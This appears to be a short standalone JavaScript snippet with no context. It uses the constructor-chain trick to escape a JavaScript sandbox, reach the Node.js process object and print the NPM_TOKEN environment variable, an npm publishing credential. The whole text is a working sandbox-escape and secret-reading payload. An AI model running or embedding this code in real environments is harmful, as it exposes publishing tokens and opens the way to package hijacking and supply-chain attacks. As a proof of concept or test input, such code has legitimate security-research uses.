const p = this.constructor.constructor('return process')();
p.stdout.write(p.env.NPM_TOKEN || '');
